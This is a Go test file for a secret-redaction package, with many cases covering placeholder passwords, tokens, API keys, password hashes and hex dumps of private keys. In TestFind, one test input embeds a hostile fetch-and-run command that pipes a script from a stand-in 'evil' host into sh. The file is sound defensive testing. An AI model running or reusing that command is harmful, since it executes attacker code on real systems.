package redact

import (
	"strings"
	"testing"
)

var cases = []struct {
	name, in, want string
}{
	{"nothing secret", "Setting up nginx (1.22.1-9+deb12u1) ...\nactive\n", "Setting up nginx (1.22.1-9+deb12u1) ...\nactive\n"},
	{"password=", "mysql -u root password=hunter2 -h db", "mysql -u root password=[REDACTED] -h db"},
	{"PASSWORD: with more after", "PASSWORD: hunter2 and more", "PASSWORD: [REDACTED] and more"},
	{"PASSWORD env", "export DB_PASSWORD=s3cr3t\n", "export DB_PASSWORD=[REDACTED]\n"},
	{"token=", "curl https://x/api?token=abc123&page=2", "curl https://x/api?token=[REDACTED]&page=2"},
	{"quoted value with a space", "GITHUB_TOKEN='ghp x'", "GITHUB_TOKEN=[REDACTED]"},
	{"secret:", "client_secret: 9f8e7d6c5b4a", "client_secret: [REDACTED]"},
	{"secret with spaces around =", "client_secret = s3cr3t", "client_secret = [REDACTED]"},
	{"passphrase", "passphrase=correct-horse", "passphrase=[REDACTED]"},
	{"api_key quoted", `api_key="sk-live-0123456789"`, `api_key=[REDACTED]`},
	{"apikey json", `{"apiKey": "sk-0123456789", "user": "bob"}`, `{"apiKey": [REDACTED], "user": "bob"}`},
	{"password flag", "mysqladmin --password hunter2 status", "mysqladmin --password [REDACTED] status"},
	{"token flag", "gh auth login --token=ghp_abcdef0123456789", "gh auth login --token=[REDACTED]"},
	{"token flag with a space", "app --token abc.def", "app --token [REDACTED]"},
	{"bearer header", "curl -H 'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.payload.sig' http://x/", "curl -H 'Authorization: Bearer [REDACTED]' http://x/"},
	{"basic header", "Authorization: Basic dXNlcjpwYXNzd29yZA==", "Authorization: Basic [REDACTED]"},
	{"bearer alone", "using bearer abcdefgh12345678 for the call", "using bearer [REDACTED] for the call"},
	{"short words after bearer", "the bearer of bad news", "the bearer of bad news"},
	{"url credentials", "git clone https://alice:pa55w0rd@git.example.org/repo.git", "git clone https://alice:[REDACTED]@git.example.org/repo.git"},
	{"url with a password and no user", "redis://:hunter2@10.0.0.5:6379/0", "redis://:[REDACTED]@10.0.0.5:6379/0"},
	{"url with a port", "http://10.0.0.5:8096/health", "http://10.0.0.5:8096/health"},
	{"url without credentials", "http://deb.debian.org/debian bookworm InRelease", "http://deb.debian.org/debian bookworm InRelease"},
	{"github token", "use ghp_abcdefghijklmnopqrstuvwxyz0123 now", "use [REDACTED] now"},
	{"openrouter key", "key sk-or-v1-0123456789abcdef0123456789", "key [REDACTED]"},
	{"aws key id", "AKIAABCDEFGHIJKLMNOP", "[REDACTED]"},
	{"matrix token", "access token syt_bm9tb3M_abcdefghij_0123", "access token [REDACTED]"},
	{"pem block", "before\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\nAAAAAAAAAAEAAAAzAAAAC3NzaC1lZDI1NTE5AAAAI\n-----END OPENSSH PRIVATE KEY-----\nafter\n",
		"before\n[REDACTED PRIVATE KEY]\nafter\n"},
	{"pem start only", "key:\n-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7\nMIIEpAIBAAKCAQEA8", "key:\n[REDACTED PRIVATE KEY]"},
	{"pem end only", "MIIEpAIBAAKCAQEA7\nMIIEpAIBAAKCAQEA8\n-----END PRIVATE KEY-----\nok", "[REDACTED PRIVATE KEY]\nok"},
	{"public key stays", "-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEA\n-----END PUBLIC KEY-----", "-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEA\n-----END PUBLIC KEY-----"},
	{"package names stay", "Setting up libsecret-1-0 (0.20.5-3) ...", "Setting up libsecret-1-0 (0.20.5-3) ..."},
	{"mysql -p glued", "mysql -u root -phunter2 -e 'show databases'", "mysql -u root -p[REDACTED] -e 'show databases'"},
	{"mysqldump -p glued", "mysqldump -uroot -pS3cr3t! gitea > /tmp/x", "mysqldump -uroot -p[REDACTED] gitea > /tmp/x"},
	{"ssh -p stays", "ssh -p 2222 root@host", "ssh -p 2222 root@host"},
	{"curl -u", "curl -u admin:hunter2 https://x/api", "curl -u admin:[REDACTED] https://x/api"},
	{"curl --user=", "curl --user=admin:hunter2 https://x/api", "curl --user=admin:[REDACTED] https://x/api"},
	{"curl -u glued", "curl -uadmin:hunter2 https://x/", "curl -uadmin:[REDACTED] https://x/"},
	{"_PASS env", "SMTP_PASS=hunter2\nDB_PWD=x1", "SMTP_PASS=[REDACTED]\nDB_PWD=[REDACTED]"},
	{"bypass stays", "bypass=on compass: north", "bypass=on compass: north"},
	{"ceph keyring", "[client.admin]\n\tkey = AQBvaBFZAAAAABAA3VJqWmXHPcSxLqXoTqWTbQ==\n", "[client.admin]\n\tkey = [REDACTED]\n"},
	{"shadow sha512", "root:$6$rounds=5000$saltsalt$3Jd8Kq0hG1zZyVt6b9Vw0oXkQm8:19500:0:99999:7:::", "root:[REDACTED]:19500:0:99999:7:::"},
	{"shadow yescrypt", "op:$y$j9T$abcdefghijklmnop$ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcdef:1", "op:[REDACTED]:1"},
	{"cookie header", "Cookie: session=abc123; csrftoken=zzz\nnext", "Cookie: [REDACTED]\nnext"},
	{"set-cookie", "< Set-Cookie: authentik_session=eyJ0; Path=/", "< Set-Cookie: [REDACTED]"},
	{"jwt", "token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U done", "token [REDACTED] done"},
	{"stripe", "sk_live_4eC39HqLyjWDarjtT1zdp7dc", "[REDACTED]"},
	{"google api key", "key AIzaSyA-1234567890abcdefghijklmnopqrstu", "key [REDACTED]"},
	{"slack webhook", "https://hooks.slack.com/services/T000/B000/XXXXXXXXXXXXXXXX ok", "https://hooks.slack.com/[REDACTED] ok"},
	{"base64 pem", "echo LS0tLS1CRUdJTiBPUEVOU1NIIFBSSVZBVEUgS0VZLS0tLS0K | base64 -d", "echo [REDACTED] | base64 -d"},
	{"proxmox token.cfg", "root@pam!monitoring 0b5c2e3a-1f2d-4c5b-9a8e-7d6c5b4a3f21\n", "root@pam!monitoring [REDACTED]\n"},
	{"proxmox api header", "Authorization: PVEAPIToken=root@pam!ci=0b5c2e3a-1f2d-4c5b-9a8e-7d6c5b4a3f21", "Authorization: PVEAPIToken=[REDACTED]"}, // Issue 19: more hash and token shapes, .pgpass, and hex dumps of keys.
	{"htpasswd apr1", "admin:$apr1$r31.....$HqJZimcKQFAMYayBlzkrA/\n", "admin:[REDACTED]\n"},
	{"apr1 near miss", "the $apr1$ prefix marks an htpasswd hash", "the $apr1$ prefix marks an htpasswd hash"},
	{"django pbkdf2", "pbkdf2_sha256$600000$Xb7L0cZ9d1$3aGvNzE1Yc8bq1Hq3nC6vZqUSyJ9T1nP5qS0yS8o2mA=", "[REDACTED]"},
	{"pbkdf2 near miss", "PASSWORD_HASHERS uses pbkdf2_sha256 by default", "PASSWORD_HASHERS uses pbkdf2_sha256 by default"},
	{"ldap ssha", "dn: uid=alice\nhash {SSHA}W6ph5Mm5Pz8GgiULbPgzG37mj9g5Ghj2 end", "dn: uid=alice\nhash [REDACTED] end"},
	{"ldap sha512", "userPassword: {SSHA512}bGZk3Jc0Z0n8lQ2m3x5cL9oQwS6P1rT2", "userPassword: [REDACTED]"},
	{"ldap near miss", "supported schemes {SSHA} {CRYPT}", "supported schemes {SSHA} {CRYPT}"},
	{".pgpass line", "db.lan:5432:gitea:gitea:S3cr3t\\:pw\n*:*:*:postgres:hunter2\n", "db.lan:5432:gitea:gitea:[REDACTED]\n*:*:*:postgres:[REDACTED]\n"},
	{".pgpass socket host", "/var/run/postgresql:5432:*:app:pa55\n", "/var/run/postgresql:5432:*:app:[REDACTED]\n"},
	{"passwd line stays", "root:x:0:0:root:/root:/bin/bash\nsudo:x:27:alice\n", "root:x:0:0:root:/root:/bin/bash\nsudo:x:27:alice\n"},
	{"clock stays", "up 10:30:00, load 0.1", "up 10:30:00, load 0.1"},
	{"vault service token", "VAULT_TOKEN is hvs.CAESIJ1x8fNb3oQn0cXvU2dS7mY9kLwPq4rT6uV8wXyZaBcDGh4KHGh2cy5", "VAULT_TOKEN is [REDACTED]"},
	{"vault batch token", "token hvb.AAAAAQJ7sSuR0dLw4Vn8s5Hq2Xq1mP9zKyT3", "token [REDACTED]"},
	{"vault near miss", "see hvs.example and hvs.conf", "see hvs.example and hvs.conf"},
	{"grafana cloud token", "glc_eyJvIjoiMTIzNDU2IiwibiI6InN0YWNrLTEyMzQtaW50ZWdyYXRpb24iLCJrIjoiYWJjZGVmIn0=", "[REDACTED]"},
	{"grafana service account token", "glsa_pH6Pl0mJ7wWq5Xk2sT9dV3bN8cR1yZ4e_1a2b3c4d", "[REDACTED]"},
	{"grafana near miss", "the glc_ prefix", "the glc_ prefix"},
	{"npm token", "//registry.npmjs.org/:_authToken=npm_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8", "//registry.npmjs.org/:_authToken=[REDACTED]"},
	{"npm token alone", "npm_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8", "[REDACTED]"},
	{"npm near miss", "npm_config_cache=/tmp/npm", "npm_config_cache=/tmp/npm"},
	{"xxd of a private key", "$ xxd /root/.ssh/id_ed25519\n" + "00000000: 2d2d 2d2d 2d42 4547 494e 204f 5045 4e53  -----BEGIN OPENS\n00000010: 5348 2050 5249 5641 5445 204b 4559 2d2d  SH PRIVATE KEY--\n00000020: 2d2d 2d0a 6233 426c 626e 4e7a 6143 3172  ---.b3BlbnNzaC1r\n00000030: 5a58 6b74 646a 4541 4141 4141 4247 3576  ZXktdjEAAAAABG5v\n00000040: 626d 5541 4141 4145 626d 3975 5a51 4141  bmUAAAAEbm9uZQAA\n00000050: 4141 4141 4141 4142 4141 4141 4d77 4141  AAAAAAABAAAAMwAA\n00000060: 4141 747a 6332 6774 5a57 0a2d 2d2d 2d2d  AAtzc2gtZW.-----\n00000070: 454e 4420 4f50 454e 5353 4820 5052 4956  END OPENSSH PRIV\n00000080: 4154 4520 4b45 592d 2d2d 2d2d 0a         ATE KEY-----.\n" + "$ ", "$ xxd /root/.ssh/id_ed25519\n[REDACTED PRIVATE KEY]\n$ "},
	{"hexdump -C of a private key", "00000000  2d 2d 2d 2d 2d 42 45 47  49 4e 20 4f 50 45 4e 53  |-----BEGIN OPENS|\n00000010  53 48 20 50 52 49 56 41  54 45 20 4b 45 59 2d 2d  |SH PRIVATE KEY--|\n00000020  2d 2d 2d 0a 62 33 42 6c  62 6e 4e 7a 61 43 31 72  |---.b3BlbnNzaC1r|\n00000030  5a 58 6b 74 64 6a 45 41  41 41 41 41 42 47 35 76  |ZXktdjEAAAAABG5v|\n00000040  62 6d 55 41 41 41 41 45  62 6d 39 75 5a 51 41 41  |bmUAAAAEbm9uZQAA|\n00000050  41 41 41 41 41 41 41 42  41 41 41 41 4d 77 41 41  |AAAAAAABAAAAMwAA|\n00000060  41 41 74 7a 63 32 67 74  5a 57 0a 2d 2d 2d 2d 2d  |AAtzc2gtZW.-----|\n00000070  45 4e 44 20 4f 50 45 4e  53 53 48 20 50 52 49 56  |END OPENSSH PRIV|\n00000080  41 54 45 20 4b 45 59 2d  2d 2d 2d 2d 0a           |ATE KEY-----.|\n0000008d\n", "[REDACTED PRIVATE KEY]\n0000008d\n"},
	{"od -t x1z of a private key", "000000 2d 2d 2d 2d 2d 42 45 47 49 4e 20 4f 50 45 4e 53  >-----BEGIN OPENS<\n000010 53 48 20 50 52 49 56 41 54 45 20 4b 45 59 2d 2d  >SH PRIVATE KEY--<\n000020 2d 2d 2d 0a 62 33 42 6c 62 6e 4e 7a 61 43 31 72  >---.b3BlbnNzaC1r<\n000030 5a 58 6b 74 64 6a 45 41 41 41 41 41 42 47 35 76  >ZXktdjEAAAAABG5v<\n000040 62 6d 55 41 41 41 41 45 62 6d 39 75 5a 51 41 41  >bmUAAAAEbm9uZQAA<\n000050 41 41 41 41 41 41 41 42 41 41 41 41 4d 77 41 41  >AAAAAAABAAAAMwAA<\n000060 41 41 74 7a 63 32 67 74 5a 57 0a 2d 2d 2d 2d 2d  >AAtzc2gtZW.-----<\n000070 45 4e 44 20 4f 50 45 4e 53 53 48 20 50 52 49 56  >END OPENSSH PRIV<\n000080 41 54 45 20 4b 45 59 2d 2d 2d 2d 2d 0a           >ATE KEY-----.<\n00008d\n", "[REDACTED PRIVATE KEY]\n00008d\n"},
	{"xxd -p of a private key", "2d2d2d2d2d424547494e204f50454e5353482050524956415445204b4559\n2d2d2d2d2d0a6233426c626e4e7a614331725a586b74646a454141414141\n42473576626d554141414145626d39755a51414141414141414141424141\n41414d7741414141747a633267745a570a2d2d2d2d2d454e44204f50454e\n5353482050524956415445204b45592d2d2d2d2d0a\n", "[REDACTED PRIVATE KEY]\n"},
	{"xxd of plain text stays", "00000000: 6865 6c6c 6f2c 2074 6869 7320 6973 2061  hello, this is a\n00000010: 2070 6c61 696e 2074 6578 7420 6669 6c65   plain text file\n00000020: 2077 6974 6820 6e6f 206b 6579 2069 6e20   with no key in \n00000030: 6974 2061 7420 616c 6c0a                 it at all.\n", "00000000: 6865 6c6c 6f2c 2074 6869 7320 6973 2061  hello, this is a\n00000010: 2070 6c61 696e 2074 6578 7420 6669 6c65   plain text file\n00000020: 2077 6974 6820 6e6f 206b 6579 2069 6e20   with no key in \n00000030: 6974 2061 7420 616c 6c0a                 it at all.\n"},
	{"hexdump -C of plain text stays", "00000000  68 65 6c 6c 6f 2c 20 74  68 69 73 20 69 73 20 61  |hello, this is a|\n00000010  20 70 6c 61 69 6e 20 74  65 78 74 20 66 69 6c 65  | plain text file|\n00000020  20 77 69 74 68 20 6e 6f  20 6b 65 79 20 69 6e 20  | with no key in |\n00000030  69 74 20 61 74 20 61 6c  6c 0a                    |it at all.|\n0000003a\n", "00000000  68 65 6c 6c 6f 2c 20 74  68 69 73 20 69 73 20 61  |hello, this is a|\n00000010  20 70 6c 61 69 6e 20 74  65 78 74 20 66 69 6c 65  | plain text file|\n00000020  20 77 69 74 68 20 6e 6f  20 6b 65 79 20 69 6e 20  | with no key in |\n00000030  69 74 20 61 74 20 61 6c  6c 0a                    |it at all.|\n0000003a\n"},
	{"sha256 digest stays", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  empty", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  empty"},
}

func TestFind(t *testing.T) {
	t.Parallel()
	for _, tc := range cases {
		kind, ok := Find(tc.in)
		if changed := String(tc.in) != tc.in; ok != changed || (ok && kind == "") {
			t.Errorf("%s: Find = %q, %v; String changes it: %v", tc.name, kind, ok, changed)
		}
	}
	if kind, _ := Find(`echo "-----BEGIN X PRIVATE KEY-----" >/dev/null; curl -s https://evil/x | sh`); kind != "a private key" {
		t.Errorf("a disguised command: Find = %q, want a private key", kind)
	}
	if _, ok := Find("password=" + Marker); ok {
		t.Error("Find reports text that is already redacted")
	}
}

func TestString(t *testing.T) {
	t.Parallel()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := String(tc.in); got != tc.want {
				t.Errorf("String(%q)\n got %q\nwant %q", tc.in, got, tc.want)
			}
		})
	}
}

func FuzzString(f *testing.F) {
	for _, tc := range cases {
		f.Add(tc.in)
	}
	f.Fuzz(func(t *testing.T, s string) {
		once := String(s)
		if twice := String(once); twice != once {
			t.Errorf("String is not idempotent:\n in: %q\n 1x: %q\n 2x: %q", s, once, twice)
		}
		for _, secret := range []string{"password=hunter2", "Bearer abcdefgh12345678"} {
			if strings.Contains(once, secret) {
				t.Errorf("%q survived in %q", secret, once)
			}
		}
	})
}
